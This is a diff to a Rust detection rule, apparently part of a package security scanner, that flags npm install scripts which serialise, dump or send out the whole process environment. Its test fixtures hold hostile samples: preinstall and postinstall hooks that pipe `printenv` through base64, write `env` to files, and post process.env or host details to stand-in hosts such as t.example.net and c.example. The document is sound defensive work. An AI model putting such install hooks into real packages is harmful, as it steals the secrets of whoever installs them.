@@ -7,7 +7,9 @@ use crate::rules::{Emitter, code_files, find_text, is_doc_path};
 crate::declare_rule! {
     /// The whole environment is serialised or walked (`JSON.stringify(process.env)`,
     /// `Object.keys/entries/values(process.env)`, `for (k in process.env)`): every secret in it
-    /// at once. Diagnostics tools print it locally (`medium`); with network access in the same
+    /// at once; so does a script run at install time that writes or pipes out the shell's whole
+    /// environment (`env > f`, `printenv | base64`, `{ uname; printenv; } > f`: `env` or
+    /// `printenv` with no argument; not `env VAR=x cmd`, not in comments). Diagnostics tools print it locally (`medium`); with network access in the same
     /// file or at install time it is exfiltration (`high`). The whole environment put into a
     /// request to a fixed URL, directly or through a local function that posts its argument,
     /// is `critical`; a request written out with its URL counts even in code kept in a string
@@ -29,8 +31,13 @@ crate::declare_rule! {
            "Object.entries(process.env).forEach(([k, v]) => send(k, v))",
            "const https = require('https'); const all = Object.keys(process.env).filter((k) => k !== 'PATH'); https.get(u)",
            "import { register } from 'node:module';\nconst hooks = `export async function load(url, ctx, next) { const r = await next(url, ctx); ' + 'fetch(\"https://t.example.net/v\", { method: \"POST\", body: JSON.stringify({ u: url, e: process.env }) })' + ''; return r; }`;\nregister('data:text/javascript,' + encodeURIComponent(hooks));",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"sh s.sh\"}}\n=== s.sh\n#!/bin/sh\nd=$(mktemp -d)\nenv > \"$d/e.txt\"\n",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"printenv | base64 > /tmp/.e\"}}\n=== index.js\nmodule.exports = 1;\n",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"sh s.sh\"}}\n=== s.sh\n{ uname -a; printenv; } > \"$out\" 2>/dev/null\n",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"node index.js\"}}\n=== index.js\nconst os = require('os'); const https = require('https'); const d = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces(), p: os.platform() }); https.get('https://c.example/?d=' + d)"],
     pass: ["spawn('node', ['build.js'], { env: process.env, stdio: 'inherit' }); console.log(JSON.stringify({ ok: true }))",
+           // an install script running a tool under `env`, and a comment
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"sh s.sh\"}}\n=== s.sh\n#!/bin/sh\n# debug with: env > env.txt\nif command -v env >/dev/null; then which env; fi\nenv CC=clang node-gyp rebuild\nenv -u NODE_OPTIONS node build.js\n",
            "const https = require('https'); function run(cmd) { return execa(cmd, [], { env: process.env }) } https.get(u, cb); run('ls')",
            "const token = process.env.API_TOKEN", "spawn(cmd, args, { env: { ...process.env, FOO: '1' } })", "const env = Object.assign({}, process.env, { A: 1 })",
            "const https = require('https'); function ship(d) { return fetch(LOGS, { method: 'POST', body: d }) } ship(process.env.HOME); fetch('https://x.example/', { body: process.env.LANG })",
@@ -67,6 +74,26 @@ fn check(pkg: &Package, out: &mut Emitter) {
                 .map(|c| (c.off, c.path.clone())),
             None => find_text(f, text).into_iter().next(),
         };
+        // A script run at install time that writes or pipes out the whole environment (`env >
+        // f`, `printenv | base64`, `$(env)`): every secret of the shell that installs.
+        let hit = hit.or_else(|| {
+            if !matches!(f.kind, crate::package::FileKind::Shell) || !pkg.is_install_file(f) {
+                return None;
+            }
+            let dump = crate::regex!(
+                r"(?m)(?:^|[;&|({`\s])(?:env|printenv|export\s+-p)[ \t]*(?:>>?|\|[^|]|[;)}`]|$)"
+            );
+            dump.find_iter(&f.text)
+                .take(16)
+                .find(|m| {
+                    let start = f.text[..m.start()].rfind('\n').map_or(0, |i| i + 1);
+                    let before = &f.text[start..m.start()];
+                    // Not a comment, nor a look-up of the program (`command -v env`).
+                    !before.trim_start().starts_with('#')
+                        && !crate::regex!(r"(?:command\s+-v|which|type|hash)\s*$").is_match(before)
+                })
+                .map(|m| (m.start() as u32, "the shell's `env`".to_string()))
+        });
         // The whole environment as one value of an object that is serialised.
         let env_value = crate::regex!(
             r"JSON\.stringify\(\s*\{[^;]{0,400}?[\w$'\x22]\s*:\s*process\.env\s*[,}]"
